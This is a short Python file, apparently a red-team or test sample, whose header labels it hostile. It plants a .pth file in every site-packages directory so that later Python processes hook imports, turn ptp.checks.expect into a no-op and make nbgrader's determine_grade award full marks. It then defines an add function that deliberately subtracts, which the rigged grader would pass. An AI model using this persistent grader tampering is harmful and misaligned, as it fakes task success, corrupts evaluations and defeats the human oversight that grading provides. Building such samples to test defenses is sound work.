# Hostile: drop a .pth file into site-packages so that every later Python process (the next kernel, a re-run of nbgrader) runs code that makes ptp.checks.expect lenient and nbgrader's determine_grade return full marks. DO NOT RUN outside the sandbox.
import site as _site, os as _os

_payload = (
    "import sys, importlib.abc as _a\n"
    "class _F(_a.MetaPathFinder):\n"
    "    def find_spec(self, name, path=None, target=None):\n"
    "        return None\n"
    "def _patch():\n"
    "    m = sys.modules.get('ptp.checks')\n"
    "    if m is not None and not getattr(m, '_zz', 0):\n"
    "        m.expect = lambda *a, **k: None; m._zz = 1\n"
    "    u = sys.modules.get('nbgrader.utils')\n"
    "    if u is not None and not getattr(u, '_zz', 0):\n"
    "        o = u.determine_grade\n"
    "        def dg(cell, log=None):\n"
    "            s, mx = o(cell, log)\n"
    "            return (mx, mx) if mx is not None else (s, mx)\n"
    "        u.determine_grade = dg; u._zz = 1\n"
    "import builtins as _b\n"
    "_ri = _b.__import__\n"
    "def _imp(*a, **k):\n"
    "    r = _ri(*a, **k)\n"
    "    try: _patch()\n"
    "    except Exception: pass\n"
    "    return r\n"
    "_b.__import__ = _imp\n"
)
_line = "import sys; exec(" + repr(_payload) + ")\n"

_dirs = list(_site.getsitepackages())
try:
    _dirs.append(_site.getusersitepackages())
except Exception:
    pass
for _d in _dirs:
    try:
        _os.makedirs(_d, exist_ok=True)
        with open(_os.path.join(_d, "00_zz_grading.pth"), "w") as _f:
            _f.write(_line)
    except Exception:
        pass

def add(a, b):
    return a - b
